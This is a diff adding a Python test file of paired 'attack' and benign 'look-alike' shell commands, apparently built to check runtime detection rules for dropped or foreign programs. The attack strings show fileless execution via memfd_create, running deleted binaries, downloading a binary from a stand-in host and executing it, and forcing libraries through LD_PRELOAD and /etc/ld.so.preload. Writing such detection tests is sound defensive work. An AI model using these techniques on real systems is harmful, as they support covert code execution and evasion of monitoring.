@@ -1,0 +1,58 @@
+# SPDX-License-Identifier: Apache-2.0
+"""30-dropped.yaml: programs and libraries that were not in the image."""
+
+from __future__ import annotations
+
+from proof import Proof
+
+PROOFS = [
+    Proof("Program run from memory", attack="""python3 -c '
+import os
+memory = os.memfd_create("x")
+os.write(memory, open("/usr/bin/busybox", "rb").read())
+os.execv(f"/proc/self/fd/{memory}", ["busybox", "true"])'
+""", look_alike="""python3 -c '
+import os
+memory = os.memfd_create("x", 0)
+os.write(memory, open("/usr/bin/busybox", "rb").read())
+os.execv("/usr/bin/busybox", ["busybox", "true"])'
+"""),
+
+    Proof("Deleted program run", attack="""
+cp /usr/bin/busybox /srv/deleted
+exec 9</srv/deleted
+rm /srv/deleted
+exec /proc/self/fd/9 true
+""", look_alike="busybox sleep 0; cp /usr/bin/busybox /srv/data; exec 9</srv/data; rm /srv/data; wc -c <&9"),
+
+    Proof("Downloaded, made executable and run", alone=True, attack="""
+curl -s -o /srv/download http://203.0.113.9/busybox
+chmod +x /srv/download
+/srv/download true
+""", look_alike="curl -s -o /srv/download http://203.0.113.9/busybox; chmod 644 /srv/download; wc -c /srv/download"),
+
+    Proof("Program run from a temporary directory", attack="cp /usr/bin/busybox /tmp/x; /tmp/x true",
+          look_alike="cp /usr/bin/busybox /tmp/x; cd /tmp; busybox true"),
+
+    Proof("Hidden program run", attack="mkdir -p /srv/.x; cp /usr/bin/busybox /srv/.x/tool; /srv/.x/tool true",
+          look_alike="mkdir -p /srv/x; cp /usr/bin/busybox /srv/x/tool; /srv/x/tool true"),
+
+    Proof("New program run in a container", attack="cp /usr/bin/busybox /srv/tool; /srv/tool true",
+          look_alike="cp /usr/bin/busybox /srv/tool; busybox true"),
+
+    Proof("Library mapped from a temporary directory",
+          attack="cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/x.so; python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'",
+          look_alike="python3 -c 'import ctypes; ctypes.CDLL(\"libm.so.6\")'; cat /tmp/* >/dev/null 2>&1 || true"),
+
+    Proof("Library forced on a program",
+          attack="cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/preload.so; LD_PRELOAD=/tmp/preload.so true",
+          look_alike="LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 true"),
+
+    Proof("Library forced on all programs",
+          attack="echo /lib/x86_64-linux-gnu/libm.so.6 >/etc/ld.so.preload; rm /etc/ld.so.preload",
+          look_alike="echo /opt/lib >/etc/ld.so.conf.d/opt.conf; ldconfig"),
+
+    Proof("New program makes its memory executable", before="cp /usr/bin/python3.11 /srv/python",
+          attack="/srv/python -c 'import mmap; mmap.mmap(-1, 4096, prot=7)'",
+          look_alike="python3 -c 'import mmap; mmap.mmap(-1, 4096, prot=7)'; /srv/python -c 'import mmap; mmap.mmap(-1, 4096)'"),
+]
